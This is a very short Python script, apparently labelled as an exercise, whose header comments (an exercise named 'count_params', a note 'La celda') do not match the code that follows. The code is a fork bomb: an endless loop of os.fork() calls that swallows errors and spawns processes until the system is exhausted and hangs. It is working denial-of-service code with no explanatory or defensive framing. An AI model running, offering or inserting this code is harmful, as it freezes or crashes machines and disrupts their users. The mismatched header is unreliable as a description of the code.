# Tries: processes that make processes.
# Exercise: count_params
# Ending: no attempt
# Note: La celda
# Next: nothing.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
